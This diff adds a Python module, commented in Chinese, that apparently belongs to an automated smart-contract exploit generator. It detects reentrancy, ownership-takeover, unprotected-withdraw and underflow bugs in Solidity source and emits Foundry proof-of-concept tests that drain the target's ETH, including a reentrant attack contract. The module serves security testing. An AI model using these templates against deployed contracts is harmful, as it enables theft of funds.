@@ -0,0 +1,250 @@
+import os
+import re
+
+from src.agent.context_builder import parse_contracts
+
+# 常见漏洞类别的本地快速通道：命中模板时直接生成攻击脚本，不调用 LLM；模板攻击失败再交给 LLM
+EXPLOIT_TEMPLATES = os.getenv("EXPLOIT_TEMPLATES", "1") == "1"
+
+# Slither 检测项 -> 模板类别；Slither 报告已就绪时，被其确认的类别优先尝试
+SLITHER_CLASSES = {
+    "reentrancy-eth": "reentrancy",
+    "arbitrary-send-eth": "unprotected_withdraw",
+}
+
+TEST_TEMPLATE = """// SPDX-License-Identifier: MIT
+pragma solidity ^0.8.0;
+
+import "forge-std/Test.sol";
+import "./Target.sol";
+{helpers}
+contract ExploitTest is Test {{
+    {contract} target;
+    address attacker = makeAddr("attacker");
+
+    function setUp() public {{
+        target = new {contract}();
+        vm.deal(address(target), 10 ether);
+        vm.deal(attacker, 1 ether);
+    }}
+
+    function testExploit() public {{
+        uint256 before = attacker.balance;
+        vm.startPrank(attacker);
+{steps}
+        vm.stopPrank();
+        assertGt(attacker.balance, before);
+    }}
+}}
+"""
+
+REENTRANCY_HELPER = """
+contract Reenterer {{
+    {contract} target;
+    address owner;
+
+    constructor({contract} _target) {{
+        target = _target;
+        owner = msg.sender;
+    }}
+
+    function attack() external payable {{
+        target.{deposit}{{value: msg.value}}();
+        target.{withdraw}({withdraw_args});
+    }}
+
+    receive() external payable {{
+        if (address(target).balance >= 1 ether) target.{withdraw}({withdraw_args});
+    }}
+
+    function sweep() external {{
+        payable(owner).transfer(address(this).balance);
+    }}
+}}
+"""
+
+REENTRANCY_STEPS = """        Reenterer reenterer = new Reenterer(target);
+        reenterer.attack{value: 1 ether}();
+        reenterer.sweep();"""
+
+_FUNCTION_RE = re.compile(r"function\s+(\w+)\s*\(([^)]*)\)([^{;]*)\{", re.DOTALL)
+_CONSTRUCTOR_RE = re.compile(r"constructor\s*\(\s*\)")
+_BUILTIN_WORDS = {"external", "public", "payable", "virtual", "override"}
+_SENDS_RE = re.compile(r"\.(transfer|send)\s*\(|\.call\s*\{\s*value\s*:")
+_SENDER_CALL_RE = re.compile(r"msg\.sender\s*\)?\s*\.call\s*\{\s*value\s*:")
+_SENDER_RESET_RE = re.compile(r"\w+\s*\[\s*msg\.sender\s*\]\s*=\s*0\s*;")
+_SENDER_CREDIT_RE = re.compile(r"\[\s*msg\.sender\s*\]\s*\+=\s*msg\.value")
+_OWNER_CHECK_RE = re.compile(r"msg\.sender\s*==\s*(\w+)|(\w+)\s*==\s*msg\.sender")
+
+
+def _functions(contract: dict) -> list:
+    """返回 [{"name", "params": [(类型, 名称)], "modifiers": set, "payable", "body"}]，跳过 view / pure / 内部函数"""
+    functions = []
+    for member in contract["members"]:
+        if member["kind"] != "function":
+            continue
+        match = _FUNCTION_RE.match(member["text"])
+        if match is None:
+            continue
+        words = set(re.findall(r"\w+", match.group(3).split("returns", 1)[0]))
+        if words & {"view", "pure", "internal", "private"} or not words & {"external", "public"}:
+            continue
+        params = [(p.split()[0], p.split()[-1]) for p in match.group(2).split(",") if p.strip()]
+        functions.append({
+            "name": match.group(1),
+            "params": params,
+            "modifiers": words - _BUILTIN_WORDS,
+            "payable": "payable" in words,
+            "body": member["text"][match.end():],
+        })
+    return functions
+
+
+def _param_types(function: dict) -> list:
+    return [ptype for ptype, _ in function["params"]]
+
+
+def _drain_args(function: dict):
+    """提款函数的实参：无参，或唯一的 address 参数填攻击者；其他签名返回 None"""
+    types = _param_types(function)
+    if not types:
+        return ""
+    if types == ["address"]:
+        return "attacker"
+    return None
+
+
+def _detect_reentrancy(contract: dict, functions: list) -> list:
+    """先 call{value} 给 msg.sender，之后才把 msg.sender 的余额清零 (0.8 下 -= 会在回退时下溢，不适用)"""
+    deposit = next((f for f in functions if f["payable"] and not f["params"]
+                    and _SENDER_CREDIT_RE.search(f["body"])), None)
+    if deposit is None:
+        return []
+    matches = []
+    for f in functions:
+        call = _SENDER_CALL_RE.search(f["body"])
+        types = _param_types(f)
+        if call is None or types not in ([], ["uint256"], ["uint"]) or "nonReentrant" in f["modifiers"]:
+            continue
+        if not _SENDER_RESET_RE.search(f["body"], call.end()):
+            continue
+        args = "1 ether" if types else ""
+        matches.append({
+            "kind": "reentrancy",
+            "function": f["name"],
+            "helpers": REENTRANCY_HELPER.format(contract=contract["name"], deposit=deposit["name"],
+                                                withdraw=f["name"], withdraw_args=args),
+            "steps": REENTRANCY_STEPS,
+        })
+    return matches
+
+
+def _detect_ownership_takeover(contract: dict, functions: list) -> list:
+    """onlyOwner 保护的提款函数，但修改 owner 的函数本身没有任何权限检查"""
+    guards = {}
+    for member in contract["members"]:
+        if member["kind"] == "modifier":
+            check = _OWNER_CHECK_RE.search(member["text"])
+            if check:
+                guards[member["name"]] = check.group(1) or check.group(2)
+    matches = []
+    for guard, owner_var in guards.items():
+        setter = next((f for f in functions if _param_types(f) == ["address"] and not f["modifiers"]
+                       and "msg.sender" not in f["body"]
+                       and re.search(rf"\b{owner_var}\s*=\s*{f['params'][0][1]}\s*;", f["body"])), None)
+        if setter is None:
+            continue
+        for f in functions:
+            args = _drain_args(f)
+            if guard not in f["modifiers"] or args is None or not _SENDS_RE.search(f["body"]) \
+                    or "address(this).balance" not in f["body"]:
+                continue
+            matches.append({
+                "kind": "ownership_takeover",
+                "function": f["name"],
+                "helpers": "",
+                "steps": f"        target.{setter['name']}(attacker);\n        target.{f['name']}({args});",
+            })
+    return matches
+
+
+def _detect_unprotected_withdraw(contract: dict, functions: list) -> list:
+    """任何人都能调用、把合约全部余额转走的函数 (没有修饰器，也没有 require / if 检查)"""
+    matches = []
+    for f in functions:
+        args = _drain_args(f)
+        if args is None or f["modifiers"] or "address(this).balance" not in f["body"] \
+                or not _SENDS_RE.search(f["body"]) or re.search(r"\b(require|if|revert)\b", f["body"]):
+            continue
+        matches.append({
+            "kind": "unprotected_withdraw",
+            "function": f["name"],
+            "helpers": "",
+            "steps": f"        target.{f['name']}({args});",
+        })
+    return matches
+
+
+def _detect_unchecked_underflow(contract: dict, functions: list) -> list:
+    """unchecked 块中 balance[msg.sender] -= amount 没有余额检查：转出 1 wei 让余额下溢，再按下溢后的余额提走全部 ETH"""
+    withdraw = next((f for f in functions if _param_types(f) in (["uint256"], ["uint"])
+                     and _SENDS_RE.search(f["body"])), None)
+    if withdraw is None:
+        return []
+    matches = []
+    for f in functions:
+        if _param_types(f) not in (["address", "uint256"], ["address", "uint"]) or "unchecked" not in f["body"]:
+            continue
+        amount = f["params"][1][1]
+        if not re.search(rf"\[\s*msg\.sender\s*\]\s*-=\s*{amount}\b", f["body"]) \
+                or re.search(rf"require\s*\([^;]*\b{amount}\b", f["body"]):
+            continue
+        matches.append({
+            "kind": "unchecked_underflow",
+            "function": f["name"],
+            "helpers": "",
+            "steps": (f"        target.{f['name']}(address(0xdEaD), 1);\n"
+                      f"        target.{withdraw['name']}(address(target).balance);"),
+        })
+    return matches
+
+
+DETECTORS = [_detect_reentrancy, _detect_ownership_takeover, _detect_unprotected_withdraw,
+             _detect_unchecked_underflow]
+
+
+def match_templates(target_source: str, findings: list = ()) -> list:
+    """
+    [Fast Path] 对目标合约运行本地检测器，返回可直接执行的模板攻击 (按优先级排序)
+    每项: {"key": "类别:合约.函数", "kind", "code"}；只处理无参构造、可以直接部署的合约
+    """
+    try:
+        contracts = parse_contracts(target_source)
+    except ValueError:
+        return []
+
+    matches = []
+    for contract in contracts:
+        constructors = [m["text"] for m in contract["members"] if m["kind"] == "constructor"]
+        if contract["kind"] != "contract" or any(not _CONSTRUCTOR_RE.match(text) for text in constructors):
+            continue
+        functions = _functions(contract)
+        for detector in DETECTORS:
+            for match in detector(contract, functions):
+                matches.append({
+                    "key": f"{match['kind']}:{contract['name']}.{match['function']}",
+                    "kind": match["kind"],
+                    "code": TEST_TEMPLATE.format(contract=contract["name"], helpers=match["helpers"],
+                                                 steps=match["steps"]),
+                })
+
+    # Slither 确认过的类别排在前面 (sorted 是稳定排序，同类内保持检测顺序)
+    confirmed = {SLITHER_CLASSES[f["check"]] for f in findings if f.get("check") in SLITHER_CLASSES}
+    return sorted(matches, key=lambda m: m["kind"] not in confirmed)
+
+
+def next_template(target_source: str, findings: list = (), tried: list = ()):
+    """返回第一个尚未尝试过的模板攻击；没有返回 None"""
+    if not EXPLOIT_TEMPLATES:
+        return None
+    return next((m for m in match_templates(target_source, findings) if m["key"] not in tried), None)